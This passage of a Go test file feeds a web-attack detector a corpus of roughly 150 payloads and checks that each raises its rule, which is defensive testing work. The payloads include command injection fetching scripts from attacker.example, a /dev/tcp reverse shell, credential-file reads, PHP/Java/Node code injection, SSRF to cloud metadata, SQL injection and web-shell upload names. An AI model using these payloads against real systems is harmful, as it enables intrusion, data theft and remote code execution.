	{lJ, "from", "a@example.com\nCc: spam@example.com", "mail-header-injection", encURL},
	{lJ, "contact.email", "x@example.com\r\nSubject: free money", "mail-header-injection", encURL},
	{lQ, "subject", "Hello%0d%0aBcc:list@example.com", "mail-header-injection", 0},
	// LDAP.
	{lF, "user", "*)(uid=*))(|(uid=*", "ldap-injection", encAll},
	{lF, "user", "admin)(|(password=*))", "ldap-injection", encAll},
	{lQ, "name", "*)(&", "ldap-injection", encAll},
	{lQ, "name", "*(|(mail=*))", "ldap-injection", encAll},
	{lF, "user", "*(|(objectclass=*))", "ldap-injection", encURL},
	{lJ, "login", "admin)(!(objectClass=void))", "ldap-injection", encAll},
	{lQ, "cn", "x*)(objectClass=*", "ldap-injection", encAll},
	// Command lines without a separator, Windows shells, shell tricks.
	{lQ, "q", "cat /etc/passwd", "cmdi", encAll},
	{lQ, "q", "wget -q http://attacker.example/x.sh", "cmdi", encAll},
	{lQ, "q", "find /etc -name passwd -exec cat {} ;", "cmdi", encAll},
	{lQ, "q", "time curl attacker.example", "cmdi", encAll},
	{lQ, "q", "strace ifconfig", "cmdi", encAll},
	{lQ, "q", "for /f \"delims=\" %i in ('cmd /c whoami') do echo %i", "cmdi", encAll},
	{lQ, "q", "FOR %a IN (a,b,c) DO cmd", "cmdi", encAll},
	{lQ, "q", "IF EXIST C:\\boot.ini del C:\\boot.ini", "cmdi", encAll},
	{lQ, "q", "IF %ERRORLEVEL% NEQ 0 echo x", "cmdi", encAll},
	{lQ, "q", "cmd.exe /c dir", "cmdi", encAll},
	{lQ, "q", "powershell -enc SQBFAFgA", "cmdi", encAll},
	{lQ, "q", "; mshta http://attacker.example/x.hta", "cmdi", encAll},
	{lQ, "q", ":(){ :|:& };:", "cmdi", encAll},
	{lQ, "q", "printf dW5hbWUgLWE=|base64 -d|sh", "cmdi", encAll},
	{lQ, "q", "/???/??t /???/p??s??", "cmdi", encAll},
	{lQ, "q", "cat /etc/pa[s]swd", "cmdi", encAll},
	{lQ, "q", "{cat,/etc/passwd}", "cmdi", encAll},
	{lQ, "q", "a=nc&&$a -nlvp 555", "cmdi", encAll},
	{lQ, "host", "x.example;c$*at /et$*c/pas$*swd", "cmdi", encURL},
	// Mail protocol commands.
	{lQ, "to", "a@example.com%0d%0aRCPT TO:<victim@example.com>", "mail-command-injection", 0},
	{lQ, "box", "INBOX%0d%0aa001 EXAMINE INBOX", "mail-command-injection", 0},
	// Code injection.
	{lQ, "q", "<?php system($_GET['c']); ?>", "php-injection", encAll},
	{lQ, "q", "<?= `id` ?>", "php-injection", encAll},
	{lJ, "name", "eval($_POST['x'])", "php-injection", encAll},
	{lJ, "name", "$a('id')", "php-injection", encAll},
	{lJ, "name", "system(whoami)", "php-injection", encAll},
	{lC, "prefs", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "php-injection", encURL},
	{lQ, "file", "shell.php.", "php-injection", 0},
	{lQ, "file", "shell.phtml", "php-injection", 0},
	{lQ, "q", "java.lang.Runtime", "java-injection", encAll},
	{lQ, "q", "Runtime.getRuntime().exec('id')", "java-injection", encAll},
	{lQ, "q", "new ProcessBuilder('id').start()", "java-injection", encAll},
	{lQ, "q", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "java-injection", encAll},
	{lC, "state", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "java-injection", 0},
	{lJ, "data", "org.apache.commons.collections.functors.InvokerTransformer", "java-injection", encAll},
	{lJ, "code", "require('child_process').exec('id')", "node-injection", encAll},
	{lJ, "code", "process.mainModule.require('fs')", "node-injection", encAll},
	{lJ, "data", "{\"rce\":\"_$$ND_FUNC$$_function(){}()\"}", "node-injection", encAll},
	{lJ, "__proto__.isAdmin", "true", "prototype-pollution", 0},
	{lQ, "q", "constructor[prototype][isAdmin]=1", "prototype-pollution", encAll},
	{lQ, "q", "@{[system 'whoami']}", "perl-injection", encAll},
	{lQ, "d", "-d allow_url_include=1 -d auto_prepend_file=php://input", "php-injection", encAll},
	// Restricted files and remote inclusion.
	{lP, "1", "%2F.env", "lfi-sensitive-file", 0},
	{lQ, "f", "/app/.git/config", "lfi-sensitive-file", encAll},
	{lQ, "f", "/var/www/.htaccess", "lfi-sensitive-file", encAll},
	{lQ, "f", "/home/u/.aws/credentials", "lfi-sensitive-file", encAll},
	{lQ, "f", "/proc/net/tcp", "lfi-sensitive-file", encAll},
	{lQ, "page", "http://198.51.100.7/shell.txt?", "rfi", encURL},
	{lQ, "page", "http://198.51.100.7/shell.php", "rfi", encURL},
	{lP, "2", "http:%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "ssrf-metadata", 0},
	{lC, "img", "http%3A%2F%2F169.254.169.254%2F", "ssrf-metadata", 0},
	{lQ, "u", "http://169。254。169。254/", "ssrf-metadata", encURL},
	{lQ, "u", "http:2852039166/", "ssrf-encoded-ip", encURL},
	// SQL techniques libinjection does not flag on their own.
	{lQ, "q", "x' UNION SELECT username, password FROM users--", "sql-signature", encAll},
	{lQ, "q", "1 AND 2771=1709", "sql-signature", encAll},
	{lQ, "q", "OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb", "sql-signature", encAll},
	{lQ, "q", "'; WAITFOR DELAY '0:0:5'--", "sql-signature", encAll},
	{lQ, "q", "exec xp_cmdshell 'dir'", "sql-signature", encAll},
	{lQ, "q", "1 and extractvalue(1,concat(0x7e,version()))", "sql-signature", encAll},
	{lQ, "q", "select table_name from information_schema.tables", "sql-signature", encAll},
	{lQ, "q", "pay=AND 2771=1709)", "sql-signature", encAll},
	{lQ, "q", "|| langCode == '", "sql-signature", encAll},
	{lQ, "q", ") AS orders FROM users--", "sql-signature", encAll},
	{lQ, "q", "1 UNION SELECT null, null, null--", "sql-signature", encAll},
	{lQ, "q", "admin@example.com' and password glob password;", "sql-signature", encAll},
	{lQ, "q", "1' and starts_with(password,'a') and 'true", "sql-signature", encAll},
	{lQ, "q", "user'collate nocase--", "sql-signature", encAll},
	{lQ, "q", "11!=1", "sql-signature", encAll},
	{lQ, "q", "SeleCT sLeEp (mOD(10,5))", "sql-signature", encAll},
	{lQ, "q", "lo_import('/etc' || '/pass' || 'wd')", "sql-signature", encAll},
	{lQ, "q", "1+current_user::int", "sql-signature", encAll},
	{lQ, "q", "EXECUTE IMMEDIATE 'select 1'", "sql-signature", encAll},
	{lQ, "q", "DROP sampletable;--", "sql-signature", encAll},
	{lQ, "q", "SELECT/*avoid-spaces*/password/**/FROM/**/Members", "sql-signature", encURL},
	{lQ, "q", "' union/**/select 1", "sql-signature", encAll},
	// Command injection forms without a plain command after a separator.
	{lQ, "q", "d=/dev&&(sh)0>$d/tcp/198.51.100.7/777", "cmdi", encAll},
	{lQ, "q", "$SHELL -c \"echo hi\"", "cmdi", encAll},
	{lQ, "q", "{,ifconfig}", "cmdi", encAll},
	{lQ, "q", "f(){ f & f; };f", "cmdi", encAll},
	{lQ, "q", "Invoke-WebRequest http://example.com/x.ps1", "cmdi", encAll},
	{lQ, "q", "1;.sh whoami", "cmdi", encAll},
	{lQ, "q", "ti''me curl example.com", "cmdi", encAll},
	{lQ, "q", ";c89 -wrapper sh,-c,id .", "cmdi", encAll},
	{lQ, "q", "www.example.com;/bin/ca? /et*/passwd", "cmdi", encAll},
	{lQ, "q", "c1=c;c2=a;c3=t;$c1$c2$c3 /etc/hosts", "cmdi", encAll},
	{lQ, "q", "whoami;0'0'", "cmdi", encAll},
	{lQ, "q", "strace who", "cmdi", encAll},
	{lQ, "q", "if \"A A\" == \"A A\" echo same", "cmdi", encAll},
	{lQ, "f", "/var/lib/php/sessions/sess_d8ew88tqmabdcokhumchy8htqm", "lfi-sensitive-file", encAll},
	{lQ, "q", "admin@example.com';", "sql-signature", encAll},
	{lQ, "q", "<!--#exec cmd=\"id\"-->", "ssti", encAll},
	{lQ, "q", "<!--#include virtual=\"/etc/hosts\"-->", "ssti", encAll},
	// Script uploads (CWE-434).
	{lM, "file.filename", "shell.php", "script-upload", 0},
	{lM, "file.filename", "cmd.aspx", "script-upload", 0},
	{lM, "avatar.filename", "x.jsp", "script-upload", 0},
	{lM, "file.filename", "shell.pHp5", "script-upload", 0},
	{lM, "file.filename", "shell.phtml", "script-upload", 0},
	{lM, "file.filename", "shell.php.jpg", "script-upload", 0},
	{lM, "file.filename", "shell.asp;.jpg", "script-upload", 0},
	{lM, "file.filename", "shell.jpg;.php", "script-upload", 0},
	{lM, "file.filename", "x.png;1.jsp", "script-upload", 0},
	{lM, "file.filename", "shell.php%00.jpg", "script-upload", 0},
	{lM, "file.filename", "shell.php\x00/x.jpg", "script-upload", 0},
	{lM, "file.filename", "shell.aspx::$DATA", "script-upload", 0},
	{lM, "file.filename", "shell.jsp. . .", "script-upload", 0},
	{lM, "file.filename", ".htaccess", "script-upload", 0},
	{lM, "file.filename", "web.config", "script-upload", 0},
	{lM, "file.filename", ".user.ini", "script-upload", 0},
	{lM, "file.filename", "C:\\fakepath\\shell.php", "script-upload", 0},
	// PHP calls with hidden function names.
	{lQ, "q", "\"system\"(ls);", "php-injection", encAll},
	{lQ, "q", "[system][0](ls);", "php-injection", encAll},
	{lQ, "q", "(sy.(st).em)('uname');", "php-injection", encAll},
	{lQ, "q", "$y = 'sys'.'tem';($y)('uname');", "php-injection", encAll},
	{lQ, "q", "${@a}(10)", "php-injection", encAll},
	{lQ, "q", "exec#\n (blah)", "php-injection", encURL},
	{lQ, "file", "test.php.jpg", "php-injection", 0},
	// GraphQL.
	{lJ, "query", "query IntrospectionQuery { __schema { types { name fields { name } } } }", "graphql-introspection", 0},
	{lJ, "query", "{ __type(name: \"User\") { fields { name } } }", "graphql-introspection", 0},
	{lJ, "query", "{ a { b { c { d { e { f { g { h { i { j { k { l { m { n { o { p } } } } } } } } } } } } } } } }", "graphql-depth", 0},
	{lJ, "query", "query {" + aliasQuery(25) + "}", "graphql-aliases", 0},
}

func aliasQuery(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, " a%d: user(id: %d) { name }", i, i)
	}
	return b.String()
}

// encodings returns the value in each encoding of enc, keyed by a label.
func encodings(loc decoders.Location, v string, enc int) [][2]string {
	out := [][2]string{{"plain", v}}
	if enc&encURL != 0 {
		out = append(out, [2]string{"url", url.PathEscape(v)})
	}
	if enc&encDouble != 0 {
		out = append(out, [2]string{"url x2", url.PathEscape(url.PathEscape(v))})
	}
	if enc&encHTML != 0 && loc != lQ && loc != lP {
		out = append(out, [2]string{"html", escapePunct(v, "&#x%02x;")})
	}
	if enc&encUnicode != 0 && loc != lQ && loc != lP {
		out = append(out, [2]string{"unicode", escapePunct(v, `\u%04x`)})
	}
	if enc&encBase64 != 0 {
		out = append(out, [2]string{"base64", base64.StdEncoding.EncodeToString([]byte(v))})
	}
	return out
}

func escapePunct(s, format string) string {
	var b strings.Builder
	for _, r := range s {
		if r < 0x80 && !('a' <= r && r <= 'z' || 'A' <= r && r <= 'Z' || '0' <= r && r <= '9' || r == ' ') {
			fmt.Fprintf(&b, format, r)
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

func TestAttackCorpus(t *testing.T) {
	ds := allDetectors(t)
	payloads, cases, missed := 0, 0, 0
	for _, e := range attacks {
		payloads++
		for _, ev := range encodings(e.loc, e.value, e.enc) {
			cases++
			x := exchange(param(e.loc, e.name, ev[1]))
			as := inspectAll(ds, x)
			ok := slices.ContainsFunc(as, func(a *alert.Alert) bool { return a.RuleId == e.rule })
			if !ok {
				missed++
				t.Errorf("attack %s %s %q (%s) did not raise %s; got:%s", e.loc, e.name, ev[1], ev[0], e.rule, describe(as))
			}
			for _, a := range as {
				if _, err := alert.MarshalJSON(a); err != nil {
					t.Errorf("alert does not encode: %v", err)
				}
				if len(a.Evidence) == 0 || a.Summary == "" || len(a.Owasp) == 0 {
					t.Errorf("alert %s lacks evidence, summary or OWASP mapping", a.RuleId)
				}
			}
		}
	}
	if payloads < 100 {
		t.Errorf("attack corpus has %d payloads, want at least 100", payloads)
	}
	t.Logf("attack corpus: %d payloads, %d encoded cases, %d missed", payloads, cases, missed)
}
